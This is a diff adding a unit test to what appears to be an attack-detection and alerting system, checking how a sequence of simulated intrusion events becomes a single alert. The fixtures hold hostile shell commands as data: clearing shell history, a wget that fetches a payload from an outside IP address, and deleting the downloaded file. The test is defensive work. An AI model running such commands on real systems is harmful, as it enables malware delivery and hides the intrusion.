@@ -142,6 +142,27 @@ describe('an alert', () => {
     assert.deepEqual(occasions(world), ['opened', 'opened']);
   });
 
+  it('shows the step that its judgement speaks of, and when its story began', () => {
+    for (const batches of [1, 2]) {
+      const world = createWorld();
+      const steps = [
+        event({ ms: 0, type: 'DefenseEvasion', risk: 8 }, { session: 's1', payload: 'history -c' }),
+        event(
+          { ms: 9, type: 'MalwareDeployment', risk: 10 },
+          { session: 's1', payload: 'wget http://198.51.100.7/x', activity: 'command', extra: { n: 2 } },
+        ),
+        event({ ms: 20, type: 'DefenseEvasion', risk: 9 }, { session: 's1', payload: 'rm x' }),
+      ];
+      for (const batch of batches === 1 ? [steps] : steps.map((one) => [one])) world.feed(batch);
+      const alert = only(world.alerts.values());
+      assert.equal(alert.attack_type, 'MalwareDeployment');
+      assert.equal(alert.payload, 'wget http://198.51.100.7/x');
+      assert.deepEqual(alert.extra, { n: 2 });
+      assert.equal(alert.timestamp, steps[0]?.timestamp);
+      assert.equal(alert.event_count, 3);
+    }
+  });
+
   it('has the same id whoever decides it', () => {
     const one = event({}, { log_id: 'log-same' });
     const make = () => only(createWorld().feed([structuredClone(one)]).alerts).alert_id;
